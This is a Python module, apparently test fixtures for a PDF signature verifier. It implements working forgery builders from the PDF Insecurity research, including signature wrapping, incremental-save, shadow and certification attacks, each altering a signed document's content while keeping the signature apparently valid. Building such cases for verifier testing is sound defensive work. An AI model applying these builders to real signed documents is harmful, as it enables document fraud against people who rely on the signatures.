"""Attack files built from a legitimately signed PDF, after the PDF Insecurity research
(pdf-insecurity.org: Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk 2019-2021).

Every builder takes signed bytes and returns manipulated bytes. Families:

* USF  - Universal Signature Forgery: missing, null or broken /Contents and /ByteRange;
* ISA  - Incremental Saving Attack: new content after signing, with or without a proper xref;
* SWA  - Signature Wrapping: the signed second part moved, the ByteRange pointing at the copy;
* Shadow - hide / replace / hide-and-replace (content present at signing, swapped in an update);
* Certification attacks - Evil Annotation (FreeText under DocMDP P=2/3) and Sneaky Signature
  (a new signature field whose appearance overlays the content).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import enumerate_sig_fields

__all__ = ["ATTACKS", "SHADOW_ATTACKS", "Attack"]

Attack = Callable[[bytes], bytes]


def _sig_ref(data: bytes) -> generic.Reference:
    r = PdfFileReader(BytesIO(data), strict=False)
    for _name, value, _field in enumerate_sig_fields(r, filled_status=True):
        return value.reference
    raise AssertionError("no signature")


def _update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    w = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    change(w)
    out = BytesIO()
    w.write(out)
    return out.getvalue()


def _stream(w: IncrementalPdfFileWriter, content: bytes) -> generic.IndirectObject:
    return w.add_object(generic.StreamObject(stream_data=content))


def _first_page(w: IncrementalPdfFileWriter) -> tuple[generic.DictionaryObject, generic.IndirectObject]:
    ref = w.root["/Pages"]["/Kids"].raw_get(0)
    return ref.get_object(), ref


# -- USF --------------------------------------------------------------------------------------


def _rewrite_sig(edit: Callable[[generic.DictionaryObject], None]) -> Attack:
    def attack(data: bytes) -> bytes:
        ref = _sig_ref(data)

        def change(w: IncrementalPdfFileWriter) -> None:
            ind = generic.IndirectObject(ref.idnum, ref.generation, w)
            sig = ind.get_object()
            edit(sig)
            w.mark_update(ind)

        return _update(data, change)

    return attack


def _drop(key: str) -> Callable[[generic.DictionaryObject], None]:
    return lambda d: d.pop(pdf_name(key), None)


def _set(key: str, value: generic.PdfObject) -> Callable[[generic.DictionaryObject], None]:
    def edit(d: generic.DictionaryObject) -> None:
        d[pdf_name(key)] = value

    return edit


def usf_contents_zeroed(data: bytes) -> bytes:
    """Overwrite the signature value in place with zeros (same length)."""
    m = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", data)
    assert m is not None
    return data[: m.start(1)] + b"0" * len(m.group(1)) + data[m.end(1) :]


# -- ISA --------------------------------------------------------------------------------------


def isa_replace_content(data: bytes) -> bytes:
    """An incremental update that gives page 1 new content (a classic ISA)."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page, ref = _first_page(w)
        page["/Contents"] = _stream(w, b"BT /F1 24 Tf 72 600 Td (Decision: REJECTED) Tj ET")
        w.mark_update(ref)

    return _update(data, change)


def isa_add_page(data: bytes) -> bytes:
    """An incremental update that appends a page."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page, _ = _first_page(w)
        new = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): page["/MediaBox"],
                pdf_name("/Resources"): page.raw_get("/Resources"),
                pdf_name("/Contents"): _stream(w, b"BT /F1 24 Tf 72 600 Td (Appendix: fee 900 yuan) Tj ET"),
            }
        )
        w.insert_page(new)

    return _update(data, change)


def _page_content_ref(data: bytes) -> int:
    r = PdfFileReader(BytesIO(data), strict=False)
    contents = r.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents[0]
    return int(contents.idnum)


def isa_body_without_xref(data: bytes) -> bytes:
    """Append a new body for the page's content object after %%EOF, with no xref or trailer:
    readers that repair files pick up the new body."""
    n = _page_content_ref(data)
    body = b"BT /F1 24 Tf 72 600 Td (Decision: REJECTED) Tj ET"
    return data + b"%d 0 obj\n<< /Length %d >>\nstream\n" % (n, len(body)) + body + b"\nendstream\nendobj\n"


def isa_update_ignored_by_startxref(data: bytes) -> bytes:
    """A full update (objects, xref, trailer) whose final startxref still points at the old xref."""
    updated = isa_replace_content(data)
    old_startxref = re.findall(rb"startxref\s+(\d+)\s+%%EOF", data)[-1]
    head, _, tail = updated.rpartition(b"startxref")
    return head + b"startxref\n" + old_startxref + b"\n%%EOF\n" + tail[:0]


# -- SWA --------------------------------------------------------------------------------------


def swa_relocated_second_part(data: bytes) -> bytes:
    """Move the signed second part to the end, point /ByteRange at the copy, put new content in the
    now-unsigned gap. The signed bytes stay identical, so the digest still matches."""
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
    assert m is not None
    a, b, c, d = (int(x) for x in m.groups())
    second = data[c : c + d]
    malicious = b"\n% injected\n99 0 obj\n(Decision: REJECTED)\nendobj\n"
    new_c = c + d + len(malicious)
    old_text = m.group(0)
    new_text = b"/ByteRange [%d %d %d %d]" % (a, b, new_c, d)
    assert len(new_text) <= len(old_text)
    new_text = new_text.ljust(len(old_text))
    middle = data[c : c + d].replace(old_text, new_text, 1)
    return data[:c] + middle + malicious + second + data[c + d :]


# -- Shadow -----------------------------------------------------------------------------------


def _append_objects(data: bytes, bodies: dict[int, bytes], offsets: dict[int, int] | None = None) -> bytes:
    """A hand-written incremental update: new bodies for object numbers (and/or xref entries that
    point at existing ``offsets``), an xref section and a trailer chained to the previous one."""
    prev = int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", data)[-1])
    trailer = PdfFileReader(BytesIO(data), strict=False).trailer_view
    root = trailer.raw_get("/Root")
    out = bytearray(data)
    where = dict(offsets or {})
    for num, body in bodies.items():
        where[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(where):
        out += b"%d 1\n%010d 00000 n \n" % (num, where[num])
    out += b"trailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(trailer["/Size"]),
        root.idnum,
        root.generation,
        prev,
        xref,
    )
    return bytes(out)


def shadow_hide(data: bytes) -> bytes:
    """Replace the white overlay (object 6 of :func:`docs.shadow_pdf`) by nothing: hidden text shows."""
    return _append_objects(data, {6: b"<< /Length 0 >>\nstream\n\nendstream"})


def shadow_replace(data: bytes) -> bytes:
    """Swap the font the page uses (object 3) for another one; content bytes untouched."""
    return _append_objects(data, {3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"})


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Append only an xref section that re-points object 5 at the shadow body already in the signed file."""
    shadow_at = data.find(b"5 0 obj", data.find(b"5 0 obj") + 1)
    assert shadow_at > 0
    return _append_objects(data, {}, {5: shadow_at})


# -- Certification attacks ----------------------------------------------------------------------


def evil_annotation(data: bytes) -> bytes:
    """Add a FreeText annotation over the content (allowed-looking under DocMDP P=2/P=3)."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page, ref = _first_page(w)
        annot = w.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): pdf_name("/FreeText"),
                    pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(x) for x in (60, 740, 400, 790)]),
                    pdf_name("/Contents"): generic.TextStringObject("Decision: REJECTED"),
                    pdf_name("/DA"): generic.pdf_string("/Helv 18 Tf 0 g"),
                    pdf_name("/P"): ref,
                }
            )
        )
        annots = page.raw_get("/Annots") if "/Annots" in page else None
        arr = annots.get_object() if isinstance(annots, generic.IndirectObject) else annots
        if arr is None:
            page["/Annots"] = generic.ArrayObject([annot])
        else:
            arr.append(annot)
            if isinstance(annots, generic.IndirectObject):
                w.mark_update(annots)
        w.mark_update(ref)

    return _update(data, change)


def sneaky_signature(data: bytes) -> bytes:
    """Add an (unsigned) signature field whose appearance paints over the page content."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page, ref = _first_page(w)
        ap = w.add_object(
            generic.StreamObject(
                {
                    pdf_name("/Type"): pdf_name("/XObject"),
                    pdf_name("/Subtype"): pdf_name("/Form"),
                    pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(x) for x in (0, 0, 400, 60)]),
                },
                stream_data=b"1 1 1 rg 0 0 400 60 re f 0 g BT /Helv 18 Tf 5 20 Td (Decision: REJECTED) Tj ET",
            )
        )
        fld = w.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/FT"): pdf_name("/Sig"),
                    pdf_name("/T"): generic.pdf_string("Sneaky"),
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): pdf_name("/Widget"),
                    pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(x) for x in (60, 740, 460, 800)]),
                    pdf_name("/F"): generic.NumberObject(4),
                    pdf_name("/P"): ref,
                    pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): ap}),
                }
            )
        )
        annots = page.raw_get("/Annots") if "/Annots" in page else None
        arr = annots.get_object() if isinstance(annots, generic.IndirectObject) else annots
        if arr is None:
            page["/Annots"] = generic.ArrayObject([fld])
        else:
            arr.append(fld)
            if isinstance(annots, generic.IndirectObject):
                w.mark_update(annots)
        w.mark_update(ref)
        acro = w.root["/AcroForm"]
        acro["/Fields"].append(fld)
        acro_raw = w.root.raw_get("/AcroForm")
        if isinstance(acro_raw, generic.IndirectObject):
            w.mark_update(acro_raw)
        else:
            w.update_root()

    return _update(data, change)


ATTACKS: dict[str, Attack] = {
    "usf_no_contents": _rewrite_sig(_drop("/Contents")),
    "usf_null_contents": _rewrite_sig(_set("/Contents", generic.NullObject())),
    "usf_empty_contents": _rewrite_sig(_set("/Contents", generic.ByteStringObject(b""))),
    "usf_no_byterange": _rewrite_sig(_drop("/ByteRange")),
    "usf_null_byterange": _rewrite_sig(_set("/ByteRange", generic.NullObject())),
    "usf_empty_byterange": _rewrite_sig(_set("/ByteRange", generic.ArrayObject())),
    "usf_byterange_odd": _rewrite_sig(
        _set("/ByteRange", generic.ArrayObject([generic.NumberObject(x) for x in (0, 10, 10, 10, 20, 5)]))
    ),
    "usf_contents_zeroed": usf_contents_zeroed,
    "isa_replace_content": isa_replace_content,
    "isa_add_page": isa_add_page,
    "isa_body_without_xref": isa_body_without_xref,
    "isa_update_ignored_by_startxref": isa_update_ignored_by_startxref,
    "swa_relocated_second_part": swa_relocated_second_part,
    "evil_annotation": evil_annotation,
    "sneaky_signature": sneaky_signature,
}

#: Attacks that need the prepared document of :func:`tests.verify.docs.shadow_pdf`.
SHADOW_ATTACKS: dict[str, Attack] = {
    "shadow_hide": shadow_hide,
    "shadow_replace": shadow_replace,
    "shadow_hide_and_replace": shadow_hide_and_replace,
}
